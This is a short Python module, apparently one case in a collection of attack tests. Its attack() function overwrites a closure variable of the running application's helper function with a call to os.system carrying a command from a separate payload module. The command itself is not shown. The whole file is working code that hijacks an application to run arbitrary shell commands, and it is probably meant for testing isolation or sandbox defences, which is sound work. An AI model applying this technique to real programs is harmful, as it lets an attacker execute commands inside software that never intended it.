"""A variable of the application's closure becomes a function of C."""
CATEGORY = "borrowed"
REACH = "run"

from . import payload


def attack():
    import __main__
    import functools
    import os
    __main__.helper.__closure__[0].cell_contents = functools.partial(
        os.system, payload.COMMAND)
